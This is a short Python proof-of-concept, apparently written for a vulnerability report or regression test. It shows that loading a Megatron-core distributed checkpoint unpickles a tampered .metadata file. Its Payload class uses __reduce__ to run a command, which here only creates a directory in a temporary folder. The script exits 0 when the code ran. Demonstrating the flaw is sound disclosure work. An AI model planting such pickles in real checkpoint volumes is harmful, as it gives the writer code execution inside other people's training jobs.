"""Loading a checkpoint executes pickles that lie in it, .metadata among them, hashes of its files compared or not: who
can write to the volume of checkpoints can run code in the training job.
Exit code 0: the fault is there, with megatron-core 0.17 or later and psutil.
"""
import os, pickle, sys, tempfile
import torch
from megatron.core import dist_checkpointing
from megatron.core.dist_checkpointing import ShardedTensor

class Payload:
    def __reduce__(self): return os.mkdir, (f"{os.environ['PLANTED']}/ran",)

if __name__ == "__main__":  # Megatron's writers import this file again
    torch.cuda.synchronize, torch.cuda.current_device = (lambda *_: None), (lambda: torch.device("cpu"))
    torch.distributed.init_process_group("gloo", store=torch.distributed.HashStore(), rank=0, world_size=1)
    with tempfile.TemporaryDirectory() as at:
        os.environ["PLANTED"] = at
        os.mkdir(path := f"{at}/iter_0000002")
        state = {"w": ShardedTensor.from_rank_offsets("w", torch.ones(4))}
        dist_checkpointing.save(state, path, verify_integrity=True)
        with open(f"{path}/.metadata", "wb") as file: pickle.dump(Payload(), file)
        try: dist_checkpointing.load(state, path)
        except BaseException: pass  # a CheckpointException is one
        sys.exit(not os.path.isdir(f"{at}/ran"))
